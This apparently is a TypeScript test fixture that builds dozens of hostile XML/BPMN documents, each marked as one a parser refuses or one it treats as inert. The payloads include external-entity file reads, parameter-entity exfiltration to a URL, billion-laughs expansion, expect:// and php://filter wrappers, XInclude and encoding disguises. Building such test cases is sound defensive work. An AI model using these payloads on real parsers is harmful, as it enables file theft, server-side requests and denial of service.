/** A file that tries to reach something outside of itself, or to become much larger than it is. */
export interface XmlAttack {
  readonly name: string;
  readonly content: string | Buffer;
  /** Whether it declares a document type or an entity, which no file may. */
  readonly isDeclaration: boolean;
}

const process = `<bpmn:process id="attack" isExecutable="true"><bpmn:startEvent id="s"/></bpmn:process>`;
const open = '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x"';
const plain = (inside = process, attributes = ''): string => `${open}${attributes}>${inside}</bpmn:definitions>`;

/** What people have put into a document type: entities from a file and from the network, parameter entities, notations, and what grows. */
const declarations = (url: string, file: string): Readonly<Record<string, string>> => ({
  'an entity of a file': `<!DOCTYPE a [<!ENTITY x SYSTEM "${file}">]>`,
  'an entity of the network': `<!DOCTYPE a [<!ENTITY x SYSTEM "${url}">]>`,
  'a public entity': `<!DOCTYPE a [<!ENTITY x PUBLIC "p" "${url}">]>`,
  'a parameter entity': `<!DOCTYPE a [<!ENTITY % p SYSTEM "${url}"> %p;]>`,
  'a parameter entity that builds another': `<!DOCTYPE a [<!ENTITY % f SYSTEM "${file}"><!ENTITY % b "<!ENTITY x SYSTEM '${url}?%f;'>"> %b;]>`,
  'an external document type': `<!DOCTYPE a SYSTEM "${url}">`,
  'a public document type': `<!DOCTYPE a PUBLIC "-//x" "${url}">`,
  'an external type from a file': `<!DOCTYPE a SYSTEM "${file}">`,
  'ten levels of laughs': `<!DOCTYPE a [<!ENTITY x0 "lol">${Array.from({ length: 10 }, (_, n) => `<!ENTITY x${n + 1} "${`&x${n};`.repeat(10)}">`).join('')}<!ENTITY x "&x10;">]>`,
  'one long entity, used often': `<!DOCTYPE a [<!ENTITY x "${'a'.repeat(50_000)}">]>`,
  'an entity of itself': '<!DOCTYPE a [<!ENTITY x "&x;">]>',
  'two entities of each other': '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
  'a notation': `<!DOCTYPE a [<!NOTATION n SYSTEM "${url}"><!ENTITY x SYSTEM "${url}" NDATA n>]>`,
  'default attributes': `<!DOCTYPE a [<!ATTLIST a href CDATA "${url}"><!ENTITY x "">]>`,
  'an element declaration': '<!DOCTYPE a [<!ELEMENT a ANY><!ENTITY x "">]>',
  'lower case': `<!doctype a [<!entity x SYSTEM "${file}">]>`,
  'line breaks in the word': `<!DOCTYPE\n\ta\n[<!ENTITY\nx\nSYSTEM\n"${file}">]>`,
  'an expect wrapper': `<!DOCTYPE a [<!ENTITY x SYSTEM "expect://id">]>`,
  'a PHP wrapper': `<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=${file}">]>`,
  'a jar': `<!DOCTYPE a [<!ENTITY x SYSTEM "jar:${url}!/a">]>`,
  'a network drive': `<!DOCTYPE a [<!ENTITY x SYSTEM "\\\\\\\\127.0.0.1\\\\x">]>`,
});

/** Where a declaration may stand, and how it may be written. */
const disguises: readonly (readonly [string, (declaration: string) => string | Buffer])[] = [
  ['', (declaration) => `<?xml version="1.0"?>${declaration}${plain(process, ' name="&x;"')}`],
  ['behind a comment: ', (declaration) => `<!-- x -->${declaration}${plain()}`],
  ['with a byte order mark: ', (declaration) => `\ufeff<?xml version="1.0"?>${declaration}${plain()}`],
];

const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const utf16Big = (text: string): Buffer =>
  Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]);

/** More than fifty attacks that ask for `url` or read `file` where a parser lets them. */
export const xmlAttacks = (url: string, file: string): readonly XmlAttack[] => {
  const declared = declarations(url, file);
  const entity = declared['an entity of a file'] ?? '';
  const inert = (name: string, content: string | Buffer): XmlAttack => ({ name, content, isDeclaration: false });
  const refused = (name: string, content: string | Buffer): XmlAttack => ({ name, content, isDeclaration: true });
  return [
    ...disguises.flatMap(([place, disguise]) =>
      Object.entries(declared).map(([name, declaration]) => refused(place + name, disguise(declaration))),
    ),
    refused('UTF-16, little end first', utf16(`<?xml version="1.0" encoding="UTF-16"?>${entity}${plain()}`)),
    refused('UTF-16, big end first', utf16Big(`<?xml version="1.0" encoding="UTF-16"?>${entity}${plain()}`)),
    refused('a declaration inside of the document', plain(`${entity}${process}`)),
    inert('UTF-7', `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-${plain()}`),
    inert('another encoding than it says', `<?xml version="1.0" encoding="EBCDIC"?>${plain()}`),
    inert('XInclude', plain(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}"/>${process}`)),
    inert(
      'XInclude of a text',
      plain(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${file}"/>${process}`),
    ),
    inert(
      'a schema location',
      plain(process, ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${url}"`),
    ),
    inert(
      'a schema without a namespace',
      plain(process, ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${url}"`),
    ),
    inert('a style sheet', `<?xml-stylesheet type="text/xsl" href="${url}"?>${plain()}`),
    inert(
      'an import',
      plain(`<bpmn:import importType="http://www.w3.org/2001/XMLSchema" location="${url}" namespace="y"/>${process}`),
    ),
    inert('an unknown entity', plain(process.replace('id="s"', 'id="s" name="&x;"'))),
    inert(
      'a DOCTYPE in a CDATA section',
      plain(process.replace('/>', `><bpmn:documentation><![CDATA[${entity}]]></bpmn:documentation></bpmn:startEvent>`)),
    ),
    inert('a DOCTYPE in a comment', plain(`<!-- ${entity.replaceAll('--', '')} -->${process}`)),
    inert('an entity in an attribute of an attribute', plain(process, ` name="&#38;x;"`)),
    inert('xml:base', plain(process, ` xml:base="${url}"`)),
  ];
};
